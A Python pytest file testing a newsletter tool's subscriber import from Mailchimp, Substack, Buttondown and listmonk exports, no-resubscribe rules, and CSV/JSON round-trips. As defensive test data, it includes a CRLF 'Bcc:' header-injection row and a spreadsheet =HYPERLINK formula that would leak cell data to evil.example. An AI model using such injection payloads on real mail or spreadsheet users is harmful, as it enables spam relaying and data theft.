"""Imports of other tools' exports land the right states, never resubscribe anyone who left, and round-trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from digest.state.subscriber_formats import detect_format, export_text, parse_export
from digest.state.subscribers import ImportRecord, SubscriberStore

FIXTURES = Path(__file__).parent.parent / "fixtures" / "subscribers"
MAILCHIMP = ("subscribed_members_export_3f2a1b.csv", "unsubscribed_members_export_3f2a1b.csv",
             "cleaned_members_export_3f2a1b.csv")
SUBSTACK = "email_list.example-weekly.csv"  # the name Substack's data export gives it
T0 = 1_750_000_000.0


def store_at(tmp_path: Path, name: str = "state.sqlite") -> SubscriberStore:
    return SubscriberStore.open(tmp_path / name, clock=lambda: T0)


def states(store: SubscriberStore) -> dict[str, str]:
    return {s.key: s.state for s in store.all()}


def imported(store: SubscriberStore, name: str, fmt: str | None = None) -> tuple[list[str], object]:
    path = FIXTURES / name
    records, problems = parse_export(path, fmt or detect_format(path))  # type: ignore[arg-type]
    return problems, store.import_records(records)


def test_a_mailchimp_export_lands_subscribed_unsubscribed_and_cleaned(tmp_path: Path) -> None:
    """Mailchimp's three files: subscribed -> confirmed (with its confirm time), unsubscribed, cleaned -> bounced."""
    with store_at(tmp_path) as store:
        problems = [p for name in MAILCHIMP for p in imported(store, name)[0]]
        assert states(store) == {
            "ann.lee@example.org": "confirmed", "wang.wei@example.com.cn": "confirmed",
            "carol@example.net": "confirmed", "dave@example.org": "unsubscribed", "erin@example.com": "unsubscribed",
            "frank@gone.example": "bounced",
        }
        ann = store.get("ann.lee@example.org")
        assert ann and ann.name == "Ann Lee" and ann.confirmed_at == "2023-03-02T09:15:40Z" and ann.source == "import"
        assert {s.key for s in store.confirmed()} == {"ann.lee@example.org", "wang.wei@example.com.cn",
                                                      "carol@example.net"}
        assert store.blocked_keys() == {"dave@example.org", "erin@example.com", "frank@gone.example"}
    assert problems == [f"{FIXTURES / MAILCHIMP[0]}:5: 'not-an-address': not an email address; skipped"]


def test_a_substack_export_lands_the_right_states(tmp_path: Path) -> None:
    """Substack's email_list.*.csv: free and paid readers confirmed, email_disabled unsubscribed (the one
    row whose state is not "confirmed": an if/else giving "confirmed" both ways fails here), a deleted
    reader's placeholder skipped, a broken address named by line."""
    with store_at(tmp_path) as store:
        problems, report = imported(store, SUBSTACK)
        assert states(store) == {"grace@example.org": "confirmed", "heidi@example.com": "confirmed",
                                 "ivan@example.net": "unsubscribed"}
        assert store.get("grace@example.org").created_at == "2023-09-12T08:30:00Z"  # type: ignore[union-attr]
        assert [a for a, _ in report.skipped] == ["x7k2q9@deletion-request.substack.com"]  # type: ignore[attr-defined]
    assert len(problems) == 1 and problems[0].startswith(f"{FIXTURES / SUBSTACK}:5: ")


def test_buttondown_and_listmonk_exports_land_the_right_states(tmp_path: Path) -> None:
    """Buttondown regular/unactivated/unsubscribed/spammy and listmonk enabled/blocklisted."""
    with store_at(tmp_path) as store:
        problems, report = imported(store, "buttondown_subscribers.csv")
        assert problems == [] and [a for a, _ in report.skipped] == ["ned@example.org"]  # type: ignore[attr-defined]
        assert imported(store, "listmonk_subscribers.csv")[0] == []
        assert states(store) == {"kim@example.org": "confirmed", "lou@example.org": "pending",
                                 "mia@example.org": "unsubscribed", "oli@example.org": "confirmed",
                                 "pat@example.org": "unsubscribed"}
        # listmonk writes its times as Go does ("… 09:00:00.123456789 +0000 UTC"), any zone.
        created = {key: store.get(key).created_at for key in ("oli@example.org", "pat@example.org")}  # type: ignore[union-attr]
        assert created == {"oli@example.org": "2023-10-01T09:00:00Z", "pat@example.org": "2023-10-02T13:00:00Z"}


@pytest.mark.parametrize("left", ["unsubscribed", "bounced", "complained"])
def test_an_import_never_resubscribes_an_address_that_left(tmp_path: Path, left: str) -> None:
    """Unsubscribed, bounced or complained here: an export saying "subscribed" skips it, with why."""
    with store_at(tmp_path) as store:
        store.add("ann.lee@example.org")
        {"unsubscribed": lambda: store.remove("ann.lee@example.org"),
         "bounced": lambda: store.mark_bounced("ann.lee@example.org", source="bounce", detail="550 5.1.1"),
         "complained": lambda: store.mark_complained("ann.lee@example.org", detail="arf")}[left]()
        _, report = imported(store, MAILCHIMP[0])
        assert store.get("ann.lee@example.org").state == left  # type: ignore[union-attr]
        skipped = dict(report.skipped)  # type: ignore[attr-defined]
        assert "an import never changes that" in skipped["ann.lee@example.org"]
        assert "ann.lee@example.org" not in {s.key for s in store.confirmed()}


def test_an_export_saying_unsubscribed_blocks_a_confirmed_reader(tmp_path: Path) -> None:
    """The other way round is allowed: a reader who left in Mailchimp is unsubscribed here too."""
    with store_at(tmp_path) as store:
        store.add("dave@example.org")
        _, report = imported(store, MAILCHIMP[1])
        assert report.updated == ["dave@example.org"]  # type: ignore[attr-defined]
        assert store.get("dave@example.org").state == "unsubscribed"  # type: ignore[union-attr]


def test_the_same_address_twice_in_a_file_is_imported_once(tmp_path: Path) -> None:
    """The second row of one address is skipped, naming the first."""
    path = tmp_path / "list.csv"
    path.write_text("email,name\nann@example.org,Ann\nANN@example.org,Annie\n", encoding="utf-8")
    with store_at(tmp_path) as store:
        records, _ = parse_export(path, "csv")
        report = store.import_records(records)
    assert report.added == ["ann@example.org"] and "the same address as" in report.skipped[0][1]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_round_trips(tmp_path: Path, fmt: str) -> None:
    """Every row, state, name, topic set (every article, some, none) and consent time comes back the same."""
    with store_at(tmp_path, "a.sqlite") as store:
        for name in MAILCHIMP:
            imported(store, name)
        store.add("topics@example.org", name="Tía Ñ, \"quoted\"", topics=("AI", "Climate"))
        store.add("none@example.org", topics=())
        store.request("pend@example.org", None, source="form", ip="198.51.100.4")
        store.mark_complained("spam@example.org", detail="arf")
        original = store.all()
        text = export_text(original, fmt)  # type: ignore[arg-type]
    path = tmp_path / f"export.{fmt}"
    path.write_text(text, encoding="utf-8")
    records, problems = parse_export(path, "csv")
    assert problems == []
    with store_at(tmp_path, "b.sqlite") as again:
        report = again.import_records(records)
        assert len(report.added) == len(original) and report.skipped == []
        fields = ("key", "address", "name", "state", "topics", "created_at", "confirmed_at", "consent_ip")
        assert [[getattr(s, f) for f in fields] for s in again.all()] == \
            [[getattr(s, f) for f in fields] for s in original]
        assert export_text(again.all(), fmt) == text  # type: ignore[arg-type]


def test_a_bad_row_is_one_line_naming_file_and_line_and_the_rest_is_read(tmp_path: Path) -> None:
    """CRLF, two addresses, an SMTPUTF8 address, an unknown state and a hostile name: one line each."""
    path = tmp_path / "list.csv"
    path.write_text('email,name,state\nok@example.org,Ok,confirmed\n"a@example.org\r\nBcc: b@evil.example",X,\n'
                    "c@example.org;d@example.org,,\n用户@example.org,,\ne@example.org,,subscribed\n"
                    "f@example.org,=?utf-8?b?QmNjOg==?=,\ng@example.org,,pending\n", encoding="utf-8")
    records, problems = parse_export(path, "csv")
    assert [r.address for r in records] == ["ok@example.org", "f@example.org", "g@example.org"]
    assert [p.split(": ")[0] for p in problems] == [f"{path}:{n}" for n in (3, 5, 6, 7, 8)]
    assert records[1].name is None and all("\n" not in p for p in problems)


def test_import_records_skip_a_record_without_a_valid_address_or_state(tmp_path: Path) -> None:
    """Records built by hand are checked again by the store."""
    with store_at(tmp_path) as store:
        report = store.import_records([ImportRecord("x@@example.org", None, "confirmed", None, "hand:1"),
                                       ImportRecord("y@example.org", None, "subscribed", None, "hand:2")])
    assert [a for a, _ in report.skipped] == ["x@@example.org", "y@example.org"] and report.added == []


def test_a_mailchimp_file_whose_columns_and_name_say_nothing_takes_the_status_hint(tmp_path: Path) -> None:
    """A renamed file without UNSUB_TIME/CLEAN_TIME: --status cleaned makes its rows bounced."""
    path = tmp_path / "export.csv"
    path.write_text("Email Address,First Name,Last Name\nzed@example.org,Zed,\n", encoding="utf-8")
    assert [r.state for r in parse_export(path, "mailchimp")[0]] == ["confirmed"]
    assert [r.state for r in parse_export(path, "mailchimp", status="cleaned")[0]] == ["bounced"]
    assert [r.state for r in parse_export(path, "mailchimp", status="unsubscribed")[0]] == ["unsubscribed"]


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1 555 0100", "-2+3", "@SUM(A1:A9)",
            "'=already quoted", "''=two quotes", "'plain", "O'Neil"]


def test_csv_export_guards_formulas_and_the_import_takes_the_guard_off(tmp_path: Path) -> None:
    """No exported cell starts with =, +, -, @, a tab or a CR (a spreadsheet would run it); each such cell,
    names and addresses alike, gets a leading ', and importing the file gives back exactly what was there."""
    with store_at(tmp_path, "a.sqlite") as store:
        for i, name in enumerate(FORMULAS):
            store.add(f"reader{i}@example.org", name=name)
        store.add("=cmd@example.org", name="-minus", topics=("-odd",))
        store.add("none@example.org", topics=())
        original = store.all()
        text = export_text(original, "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in text and "'=cmd@example.org" in text and "'-" in text
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    records, problems = parse_export(path, "csv")
    assert problems == []
    with store_at(tmp_path, "b.sqlite") as again:
        again.import_records(records)
        fields = ("address", "name", "state", "topics")
        assert [[getattr(s, f) for f in fields] for s in again.all()] == \
            [[getattr(s, f) for f in fields] for s in original]
        assert export_text(again.all(), "csv") == text
